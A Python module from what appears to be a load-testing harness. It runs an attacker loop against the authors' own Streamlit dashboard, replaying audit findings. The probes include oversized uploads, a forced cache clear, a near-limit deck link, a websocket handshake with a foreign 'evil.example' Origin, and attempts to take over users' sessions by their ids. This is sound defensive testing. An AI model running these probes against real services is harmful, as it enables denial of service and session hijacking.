"""An anonymous attacker beside the load test's users (`load_test.py --attack`): issue 18's probes, in a loop.

Each round sends one of, in turn:
- upload: a 400 kB PUT to /_stcore/upload_file/<its own session>/<a made-up id> (finding 1);
- clear_cache: Streamlit's "Clear cache" BackMsg on its own websocket (finding 2);
- huge_deck: the meeting page run with a deck link near the app's 60,000-character limit, over the websocket
  (findings 3 and 16), and the same link as a plain GET through the proxy (finding 4);
- foreign_origin: a websocket handshake whose Origin is another site (findings 5 and 13);
- hijack: a websocket with its own cookies naming a user's session id (finding 13).
What came back is counted per attack and outcome; none of it is an error of the users' load. The point is what
the users see meanwhile: the load test's errors, latency and memory.
"""

from __future__ import annotations

import asyncio
import time
import urllib.error
import urllib.request
import uuid
from collections import Counter
from urllib.parse import urlsplit

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.asyncio.client import connect

from dashboard import deck as meeting_deck

ATTACKS = ("upload", "clear_cache", "huge_deck", "foreign_origin", "hijack")
UPLOAD_BYTES = 400_000


def largest_deck_token() -> str:
    """A valid deck link just under the app's limit: map slides with long notes, added until one more would not
    fit in a link."""
    deck = meeting_deck.Deck(title="Attack")
    for number in range(200):
        try:
            bigger = meeting_deck.within_budget(
                deck.add(f"page=map&indicator=drd_deaths&year={1995 + number % 25}", "ωμέγα λόγος " * 150), deck)
        except ValueError:
            break
        if meeting_deck.link_token(bigger) is None:
            break
        deck = bigger
    return meeting_deck.to_url_token(deck)


def _get(url: str, headers: dict[str, str] | None = None, data: bytes | None = None,
         method: str = "GET") -> tuple[int, dict[str, str]]:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    request = urllib.request.Request(url, headers=headers or {}, data=data, method=method)
    try:
        with opener.open(request, timeout=30) as response:
            response.read()
            cookies = {}
            for header in response.headers.get_all("set-cookie") or []:
                name, _, rest = header.partition("=")
                cookies[name] = rest.split(";", 1)[0]
            return response.status, cookies
    except urllib.error.HTTPError as error:
        return error.code, {}


class Attacker:
    def __init__(self, base: str, victims: list[str]):
        self.base = base
        self.victims = victims  # users' session ids, filled in by the load test as sessions open
        self.outcomes: Counter[str] = Counter()
        self.token = largest_deck_token()
        self.cookies: dict[str, str] = {}
        self.session_id = ""
        self.upload_socket = None

    async def _socket(self, origin: str | None = None, existing: str | None = None, fresh_cookies: bool = False):
        cookies = self.cookies
        if fresh_cookies or not cookies:
            _, cookies = await asyncio.to_thread(_get, f"{self.base}/_stcore/health")
            if not fresh_cookies:
                self.cookies = cookies
        token = cookies.get("_streamlit_xsrf", "")
        protocols = ["streamlit", token, *([existing] if existing else [])]
        header = "; ".join(f"{name}={value}" for name, value in cookies.items())
        return await connect(f"ws://{urlsplit(self.base).netloc}/_stcore/stream", subprotocols=protocols,
                             origin=origin or self.base, additional_headers={"Cookie": header}, proxy=None,
                             max_size=None, open_timeout=30)

    async def _run_page(self, ws, page: str, query: str) -> str:
        """Run a page on the socket; the session id the server gave."""
        message = BackMsg()
        message.rerun_script.query_string = query
        message.rerun_script.page_name = page
        await ws.send(message.SerializeToString())
        session_id = ""
        async with asyncio.timeout(60):
            while True:
                forward = ForwardMsg()
                forward.ParseFromString(await ws.recv())
                kind = forward.WhichOneof("type")
                if kind == "new_session":
                    session_id = forward.new_session.initialize.session_id
                elif kind == "script_finished":
                    return session_id

    async def attack(self, kind: str) -> str:
        if kind == "upload":
            if self.upload_socket is None:  # uploads go to a live session: keep its websocket open
                self.upload_socket = await self._socket()
                self.session_id = await self._run_page(self.upload_socket, "map", "")
            boundary = uuid.uuid4().hex
            body = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="deck.json"\r\n'
                    f'Content-Type: application/json\r\n\r\n').encode() + b"x" * UPLOAD_BYTES + \
                f"\r\n--{boundary}--\r\n".encode()
            status, _ = await asyncio.to_thread(
                _get, f"{self.base}/_stcore/upload_file/{self.session_id}/{uuid.uuid4().hex}",
                {"X-Xsrftoken": self.cookies.get("_streamlit_xsrf", ""), "Cookie": "; ".join(
                    f"{n}={v}" for n, v in self.cookies.items()),
                 "Content-Type": f"multipart/form-data; boundary={boundary}"}, body, "PUT")
            return str(status)
        if kind == "clear_cache":
            async with await self._socket() as ws:
                await self._run_page(ws, "trends", "")
                message = BackMsg()
                message.clear_cache = True
                await ws.send(message.SerializeToString())
                await asyncio.sleep(0.2)
            return "sent"
        if kind == "huge_deck":
            status, _ = await asyncio.to_thread(_get, f"{self.base}/meeting?deck={self.token}")
            async with await self._socket() as ws:
                await self._run_page(ws, "meeting", f"deck={self.token}")
            return f"get {status}, ran"
        if kind == "foreign_origin":
            try:
                async with await self._socket(origin="https://evil.example"):
                    return "accepted"
            except Exception as error:  # the proxy's 403
                return type(error).__name__
        if kind == "hijack":
            if not self.victims:
                return "no victim yet"
            victim = self.victims[len(self.outcomes) % len(self.victims)]
            async with await self._socket(existing=victim, fresh_cookies=True) as ws:
                got = await self._run_page(ws, "map", "")
            return "TOOK THE SESSION" if got == victim else "new session"
        raise ValueError(kind)

    async def run(self, deadline: float, pause: float = 0.5) -> None:
        number = 0
        while time.monotonic() < deadline:
            kind = ATTACKS[number % len(ATTACKS)]
            number += 1
            try:
                outcome = await self.attack(kind)
            except Exception as error:  # whatever the server does to an attacker is fine; counted
                outcome = f"failed: {type(error).__name__}"
            self.outcomes[f"{kind}: {outcome}"] += 1
            await asyncio.sleep(pause)
        if self.upload_socket is not None:
            await self.upload_socket.close()
